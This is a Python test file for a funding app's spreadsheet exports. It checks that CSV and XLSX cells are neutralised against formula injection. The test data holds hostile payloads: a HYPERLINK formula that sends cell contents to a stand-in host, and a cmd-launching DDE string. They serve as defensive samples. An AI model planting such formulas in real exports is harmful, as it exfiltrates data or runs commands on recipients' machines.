"""Spreadsheet exports never hand a funder a live formula typed by a member."""

import ast
import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from territories.exports import csv_content, spreadsheet_cell, xlsx_content

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = '=HYPERLINK("https://exemple.org/vol?d="&A1;"Cliquez ici")'


@pytest.mark.parametrize(("value", "expected"), [
    (HOSTILE, "'" + HOSTILE),
    ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Aix-Marseille-Provence", "Aix-Marseille-Provence"),
    ("Saint-Étienne = ville", "Saint-Étienne = ville"),
    ("", ""),
    (None, None),
    (-1500, -1500),
    (Decimal("-12.50"), Decimal("-12.50")),
    (date(2026, 3, 2), date(2026, 3, 2)),
])
def test_a_cell_that_would_be_a_formula_is_written_as_text(value, expected):
    assert spreadsheet_cell(value) == expected


def test_the_csv_quotes_formulas_and_keeps_numbers():
    content = csv_content(["name", "amount"], [[HOSTILE, Decimal("-250.00")], [None, 3]])
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows == [["name", "amount"], ["'" + HOSTILE, "-250.00"], ["", "3"]]


def test_the_xlsx_holds_text_never_a_formula():
    content = xlsx_content(["name", "amount"],
                           [[HOSTILE, Decimal("-250.00")], ["\x01=1+1", -3]],
                           sheet_title="Dossiers")
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet.title == "Dossiers"
    cells = [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]
    assert cells[1] == [("'" + HOSTILE, "s"), (-250, "n")]
    # A control character neither breaks the file nor hides a formula.
    assert cells[2] == [("'=1+1", "s"), (-3, "n")]


def _writes_spreadsheets(path):
    tree = ast.parse(path.read_text(encoding="utf-8"))
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") \
                and isinstance(node.value, ast.Name) and node.value.id == "csv":
            yield "csv." + node.attr
        if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
            yield node.module


def test_every_export_goes_through_the_neutralising_helpers():
    """No page or API writes a spreadsheet by itself: territories.exports does it for all.

    The geography build writes the official dataset the app reads back, never a
    download, so it keeps its own writer.
    """
    allowed = {"territories/exports.py", "territories/geography.py"}
    offenders = [
        (relative, name)
        for app in ("territories", "cluster", "projects", "funding")
        for path in (ROOT / app).rglob("*.py") if "migrations" not in path.parts
        if (relative := str(path.relative_to(ROOT))) not in allowed
        for name in _writes_spreadsheets(path)
    ]
    assert offenders == []
